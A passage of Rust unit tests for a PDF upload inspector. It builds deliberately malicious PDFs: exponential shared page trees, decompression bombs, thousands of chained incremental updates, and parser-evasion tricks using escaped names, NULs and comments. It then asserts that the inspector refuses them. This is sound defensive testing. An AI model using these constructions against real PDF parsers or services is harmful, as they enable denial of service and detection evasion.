            pdf_pages(&pdf_of("<< /Type /Catalog /Pages 2 0 R >>", &[&quoted])),
            Some(2)
        );
        // A page tree listing one child twice, or too many children.
        let twice = pdf_of(
            "<< /Type /Catalog /Pages 2 0 R >>",
            &["<< /Type /Pages /Kids [3 0 R 3 0 R] /Count 2 >>"],
        );
        assert!(!pdf_within_bounds(&twice));
        let many: String = (0..MAX_PDF_KIDS + 1)
            .map(|i| format!("{} 0 R ", i + 10))
            .collect();
        let wide = pdf_of(
            "<< /Type /Catalog /Pages 2 0 R >>",
            &[&format!("<< /Type /Pages /Kids [{many}] /Count 1 >>")],
        );
        assert!(!pdf_within_bounds(&wide));
        // Nodes sharing their children across lists: each level's two nodes list both of
        // the next, so that a walk of the tree doubles at every level (2⁴⁰ visits from a
        // few kilobytes), each list small and no kid twice in one. Refused — at the top
        // of the file and inside an object stream alike.
        // (Object 5 is its root, 6 and 7 the first level, 8 and 9 the next…; the last
        // level lists two pages of its own, 86 and 87. Not shared, each node lists the
        // next node on its own side.)
        let tree = |shared: bool| {
            let levels = 40;
            let mut nodes = vec!["<< /Type /Pages /Kids [6 0 R 7 0 R] /Count 2 >>".to_owned()];
            for level in 0..levels {
                let (a, b) = (6 + 2 * level, 7 + 2 * level);
                for side in [a, b] {
                    let next = match (level + 1 == levels, shared) {
                        (true, true) => "86 0 R 87 0 R".to_owned(),
                        (true, false) => format!("{} 0 R", 86 + side - a),
                        (false, true) => format!("{} 0 R {} 0 R", a + 2, b + 2),
                        (false, false) => format!("{} 0 R", side + 2),
                    };
                    nodes.push(format!("<< /Type /Pages /Kids [{next}] /Count 1 >>"));
                }
            }
            for _ in 0..2 {
                nodes.push("<< /Type /Page /MediaBox [0 0 595 842] >>".to_owned());
            }
            assert_eq!(nodes.len() + 4, 87);
            let refs: Vec<&str> = nodes.iter().map(String::as_str).collect();
            pdf_of("<< /Type /Catalog /Pages 5 0 R >>", &refs)
        };
        let dag = tree(true);
        assert!(dag.len() < 8 << 10, "{} bytes", dag.len());
        assert!(!pdf_within_bounds(&dag));
        assert!(pdf_within_bounds(&tree(false)));
        // Objects 50 and 51 in one object stream, listing `kids` each.
        let packed = |kids: [[u32; 2]; 2]| {
            let head: String = (0..2).map(|i| format!("{} {} ", 50 + i, i * 60)).collect();
            let mut packed = head.clone();
            for [a, b] in kids {
                let node = format!("<< /Type /Pages /Kids [{a} 0 R {b} 0 R] /Count 2 >>");
                packed.push_str(&format!("{node:<60}"));
            }
            pdf_with_stream(
                &format!(
                    "<< /Type /ObjStm /N 2 /First {} /Filter /FlateDecode >>",
                    head.len()
                ),
                &deflated(packed.as_bytes()),
            )
        };
        assert!(!pdf_within_bounds(&packed([[52, 53], [52, 53]])));
        assert!(pdf_within_bounds(&packed([[52, 53], [54, 55]])));
        // Updates saved onto the file, one after another: a few are read (an edited or
        // signed file), too many are refused before the parser follows them all.
        let updated = |times: usize| {
            let mut pdf = pdf_of("<< /Type /Catalog /Pages 2 0 R >>", &[]);
            let text = String::from_utf8_lossy(&pdf).into_owned();
            let mut prev: usize = text
                .rsplit("startxref\n")
                .next()
                .and_then(|t| t.lines().next())
                .and_then(|n| n.trim().parse().ok())
                .unwrap_or_else(|| panic!("startxref"));
            for _ in 0..times {
                let at = pdf.len();
                pdf.extend(
                    format!(
                        "xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 5 /Root 1 0 R /Prev {prev} >>\nstartxref\n{at}\n%%EOF\n"
                    )
                    .bytes(),
                );
                prev = at;
            }
            pdf
        };
        assert_eq!(pdf_pages(&updated(10)), Some(2));
        let started = std::time::Instant::now();
        assert_eq!(inspect(&updated(3_000)), Err(FileProblem::UnusualPdf));
        assert!(started.elapsed() < std::time::Duration::from_secs(1));
        // The same sharing, written so that a reading of literal `/Kids [..]` would miss
        // it: a name escaped, a comment before the list, the list given by reference.
        let escaped = pdf_of(
            "<< /Type /Catalog /Pages 2 0 R >>",
            &["<< /Type /Pages /K#69ds [3 0 R 4 0 R] /Count 2 >>"],
        );
        assert!(!pdf_within_bounds(&escaped));
        for node in [
            "<< /Type /Pages /Kids%x\n[3 0 R 4 0 R] /Count 2 >>",
            "<< /Type /Pages /Kids 6 0 R /Count 2 >>",
        ] {
            let pdf = pdf_of(
                "<< /Type /Catalog /Pages 2 0 R >>",
                &[node, "[3 0 R 4 0 R]"],
            );
            assert_eq!(inspect(&pdf), Err(FileProblem::UnusualPdf), "{node}");
        }
        // An object stream's head naming one object twice (two lists, one owner).
        let head = "50 0 50 60 ";
        let mut body = head.to_owned();
        for _ in 0..2 {
            body.push_str(&format!(
                "{:<60}",
                "<< /Type /Pages /Kids [52 0 R 53 0 R] /Count 2 >>"
            ));
        }
        let twice_named = pdf_with_stream(
            &format!(
                "<< /Type /ObjStm /N 2 /First {} /Filter /FlateDecode >>",
                head.len()
            ),
            &deflated(body.as_bytes()),
        );
        assert_eq!(inspect(&twice_named), Err(FileProblem::UnusualPdf));
        // Updates chained without a space before their `xref`: counted all the same.
        let mut glued = updated(0);
        let mut prev = glued.len();
        for _ in 0..200 {
            let at = glued.len();
            glued.extend(
                format!("xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 5 /Root 1 0 R /Prev {prev} >>\nstartxref\n{at}\n%%EOF")
                    .bytes(),
            );
            prev = at;
        }
        assert_eq!(inspect(&glued), Err(FileProblem::UnusualPdf));
        // Pages moved under a new node by a later revision (the old node written again,
        // listing the new one, which lists the pages): which definition the parser reads
        // is its table's, not known here — refused as unusual (a scanner never does it),
        // as is a tree hiding sharing behind a later definition.
        let mut moved = pdf_of("<< /Type /Catalog /Pages 2 0 R >>", &[]);
        moved.extend(
            b"2 0 obj\n<< /Type /Pages /Kids [9 0 R] /Count 2 >>\nendobj\n\
              9 0 obj\n<< /Type /Pages /Parent 2 0 R /Kids [3 0 R 4 0 R] /Count 2 >>\nendobj\n",
        );
        assert_eq!(inspect(&moved), Err(FileProblem::UnusualPdf));
        let mut hidden = dag.clone();
        hidden.extend(b"6 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n");
        assert!(!pdf_within_bounds(&hidden));
        // NUL for a blank, where the parser takes it for one.
        let nul = pdf_of(
            "<< /Type /Catalog /Pages 2 0 R >>",
            &["<< /Type /Pages /Kids\0[3\x000\x00R 4\x000\x00R] /Count 2 >>"],
        );
        assert!(!pdf_within_bounds(&nul));
        // An object written inside a stream's bytes, for the table to point at.
        let inside = pdf_with_stream(
            "<< /Length 60 >>",
            b"7 0 obj << /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >> endobj",
        );
        assert_eq!(inspect(&inside), Err(FileProblem::UnusualPdf));
        // A stream after a comment or a NUL is measured all the same.
        let zeros = vec![0u8; (MAX_PDF_INFLATED + (1 << 20)) as usize];
        for spelling in ["%c\n", "\0"] {
            let mut pdf = pdf_of("<< /Type /Catalog /Pages 2 0 R >>", &["@@"]);
            let at = pdf
                .windows(2)
                .position(|w| w == b"@@")
                .unwrap_or_else(|| panic!("placeholder"));
            let mut out = pdf[..at].to_vec();
            out.extend(format!("<< /Filter /FlateDecode >>{spelling}stream\n").bytes());
            out.extend_from_slice(&deflated(&zeros));
            out.extend(b"\nendstream");
            out.extend_from_slice(&pdf[at + 2..]);
            pdf = out;
            assert!(!pdf_within_bounds(&pdf), "{spelling:?}");
        }
        // A filter's name after a NUL or a comment: not followed, refused.
        for dict in ["<< /Filter\0[/Fl /Fl] >>", "<< /Filter%c\n[/Fl /Fl] >>"] {
            assert_eq!(
                inspect(&pdf_with_stream(dict, &deflated(b"q"))),
                Err(FileProblem::UnusualPdf),
                "{dict:?}"
            );
        }
        // A page tree written again by a later revision of the same object (an
        // incremental save) lists its kids again: not shared, and read.
        let mut revised = pdf_of("<< /Type /Catalog /Pages 2 0 R >>", &[]);
        revised.extend(b"2 0 obj\n<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>\nendobj\n");
        assert!(pdf_within_bounds(&revised));
        // Nesting hidden inside `/Kids`, an object stream named only by `/First`, a stream
        // opened by a bare CR: read all the same.
        let in_kids = format!("<< /Type /Pages /Kids [{}] /Count 1 >>", "[".repeat(5000));
        assert!(!pdf_within_bounds(&pdf_of(
            "<< /Type /Catalog /Pages 2 0 R >>",
            &[&in_kids]
        )));
        let untyped = pdf_with_stream(
            "<< /N 1 /First 4 /Subtype /Image /Filter /FlateDecode >>",
            &deflated(inner.as_bytes()),
        );
        assert!(!pdf_within_bounds(&untyped));
        let mut bare_cr = pdf_with_stream(
            "<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>",
            &deflated(inner.as_bytes()),
        );
        if let Some(at) = bare_cr.windows(7).position(|w| w == b"stream\n") {
            bare_cr[at + 6] = b'\r';
        }
        assert!(!pdf_within_bounds(&bare_cr));
        assert!(pdf_within_bounds(&two_page_pdf()));
    }

    #[test]
    fn pdfs_must_parse_and_have_pages() {
        assert_eq!(pdf_pages(&two_page_pdf()), Some(2));
        assert_eq!(inspect(&two_page_pdf()).map(|i| i.pages), Ok(Some(2)));
        assert_eq!(pdf_pages(b"%PDF-1.7 nothing at all"), None);
        assert_eq!(
            inspect(b"%PDF-1.7\n%%EOF"),
            Err(FileProblem::Unreadable(FileType::Pdf))
        );
    }
}
